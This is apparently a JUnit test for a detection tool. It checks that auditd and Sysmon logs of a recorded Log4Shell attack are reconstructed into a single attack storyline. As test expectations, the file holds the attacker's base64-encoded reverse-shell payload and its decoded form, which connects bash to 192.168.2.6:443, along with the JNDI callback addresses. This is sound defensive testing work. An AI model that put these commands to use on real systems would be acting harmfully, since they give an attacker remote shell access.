package io.sightline.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.sightline.event.ProcessExec;
import io.sightline.event.RuntimeEvent;
import io.sightline.formats.telemetry.TelemetryReader;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The real Log4Shell attack of OTRF/Security-Datasets (examples/otrf-log4shell): the auditd log
 * alone and the Sysmon for Linux log alone each give one storyboard, rooted at Tomcat's JVM (pid
 * 1340, user {@code tomcat}), holding the shell it spawned and the commands run in it, and none
 * of the host's own activity. Expected records were read by hand from the files.
 */
class OtrfLog4ShellTest {

    private static final ObjectMapper MAPPER = new ObjectMapper();
    private static final String AUOMS =
            "syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json";
    private static final String SYSMON = "syslog_sysmon_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json";
    private static final String PAYLOAD =
            "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}";
    /** What the attacker ran, in exec order: the JNDI payload, the decoder, the reverse shell, whoami. */
    private static final List<String> ATTACKER_EXECS = List.of(
            "/bin/bash -c " + PAYLOAD, "/bin/bash -i", "/usr/bin/base64 -d", "/bin/bash -i", "/usr/bin/whoami ");

    @TempDir
    Path temp;

    @Test
    void theAuditdLogAloneGivesTheAttackAndNothingElse() throws IOException {
        JsonNode storyboard = onlyStoryboard(AUOMS);

        assertThat(storyboard.path("severity").asText()).isIn("high", "critical");
        assertThat(lines(storyboard)).containsExactly(6, 7, 8, 19, 35);
        assertThat(execs(AUOMS, lines(storyboard))).containsExactlyInAnyOrderElementsOf(ATTACKER_EXECS);
        // The dependency agent's man -f bash, whatis, dpkg -S, dpkg -s (lines 17, 18, 22, 30) and the
        // shells' startup subshells (groups 9, lesspipe 10, dircolors 13) are no part of it.
        assertThat(lines(storyboard)).doesNotContain(9, 10, 13, 17, 18, 22, 30, 40, 43);
        assertTrail(storyboard);
    }

    @Test
    void theSysmonLogAloneGivesTheAttackAndNothingElse() throws IOException {
        JsonNode storyboard = onlyStoryboard(SYSMON);

        assertThat(storyboard.path("severity").asText()).isIn("high", "critical");
        // The JVM's JNDI callbacks to the attacker's LDAP (6) and HTTP (7) servers, execs 8, 10, 11, 39, 80;
        // exits of base64 (13) and whoami (81); the reverse shell's connect (33).
        assertThat(lines(storyboard)).containsExactly(6, 7, 8, 10, 11, 13, 33, 39, 80, 81);
        assertThat(execs(SYSMON, lines(storyboard))).containsExactlyInAnyOrderElementsOf(ATTACKER_EXECS);
        // Defender's connect (2), udev's files (14, 15), groups (20), lesspipe (23), the dependency
        // agent's man -f bash (34), dpkg-query (38), dpkg -S (40) and OMS's omicli (64) are not in it.
        assertThat(lines(storyboard)).doesNotContain(2, 14, 15, 20, 23, 34, 38, 40, 64);
        assertThat(storyboard.path("trail").findValuesAsText("text"))
                .contains(
                        "java connects to 192.168.2.6:1389 (an address the trail uses)",
                        "java connects to 192.168.2.6:8888 (an address the trail uses)",
                        "bash connects to 192.168.2.6:443");
        assertTrail(storyboard);
    }

    @Test
    void theExampleFolderAnalysesWithBothLogs() throws IOException {
        Path folder = Path.of(System.getProperty("sightline.scenarios"), "otrf-log4shell");

        JsonNode result = analyze(folder);

        // Replayed together in event time, auditd's by-pid parent 1340 resolves to the JVM that
        // Sysmon reported, so both sensors' trails hang under one process and meet. Their child
        // processes are still two nodes each (auditd keys on exec milliseconds, Sysmon on the
        // GUID's start second), so each step shows twice.
        assertThat(result.path("storyboards")).hasSize(1);
        JsonNode storyboard = result.path("storyboards").get(0);
        assertThat(storyboard.path("severity").asText()).isEqualTo("high");
        assertThat(storyboard.path("records").findValuesAsText("file"))
                .anyMatch(f -> f.contains("auoms"))
                .anyMatch(f -> f.contains("sysmon"));
        // The 13 records of both sensors' shells, and Sysmon's two JNDI callbacks of the JVM (lines 6, 7).
        assertThat(storyboard.path("records")).hasSize(15);
        assertTrail(storyboard);
    }

    private static void assertTrail(JsonNode storyboard) {
        // A step seen more than once says so ("whoami (2 times)"); compare without the count.
        List<String> trail = storyboard.path("trail").findValuesAsText("text").stream()
                .map(text -> text.replaceFirst(" \\(\\d+ times\\)$", ""))
                .toList();
        assertThat(trail.getFirst()).startsWith("java (serving requests) spawns bash -c {echo,YmFz");
        assertThat(trail).contains("bash starts a reverse shell: bash -i >& /dev/tcp/192.168.2.6/443 0>&1", "whoami");
        List<String> techniques = new ArrayList<>();
        storyboard.path("techniques").forEach(t -> techniques.add(t.asText()));
        assertThat(techniques).contains("T1190", "T1059.004", "T1095", "T1033");
        assertThat(storyboard.path("hosts").get(0).asText()).isEqualTo("UBUNTU5");
    }

    private JsonNode onlyStoryboard(String file) throws IOException {
        Path folder = temp.resolve(file.substring(7, 13));
        Files.createDirectories(folder.resolve("telemetry"));
        Files.copy(source(file), folder.resolve("telemetry").resolve(file));
        JsonNode result = analyze(folder);
        assertThat(result.path("storyboards")).hasSize(1);
        return result.path("storyboards").get(0);
    }

    private JsonNode analyze(Path folder) throws IOException {
        Path output = temp.resolve("analysis.json");
        int status = Sightline.commandLine()
                .execute("analyze", folder.toString(), "--format", "json", "--output", output.toString());
        assertThat(status).isZero();
        return MAPPER.readTree(Files.readString(output));
    }

    private static Path source(String file) {
        return Path.of(System.getProperty("sightline.scenarios"), "otrf-log4shell", "telemetry", file);
    }

    private static List<Integer> lines(JsonNode storyboard) {
        List<Integer> lines = new ArrayList<>();
        storyboard.path("records").forEach(r -> lines.add(r.path("line").asInt()));
        return lines;
    }

    /** "executable arguments" of every exec among the given lines of the file, as the parser read it. */
    private static List<String> execs(String file, List<Integer> lines) {
        Map<Integer, String> byLine = new TreeMap<>();
        TelemetryReader.read(source(file), file, (RuntimeEvent event) -> {
            if (event instanceof ProcessExec exec
                    && lines.contains(exec.source().line())) {
                byLine.put(
                        exec.source().line(),
                        exec.process().executable() + " " + exec.process().arguments());
            }
        });
        return List.copyOf(byLine.values());
    }
}
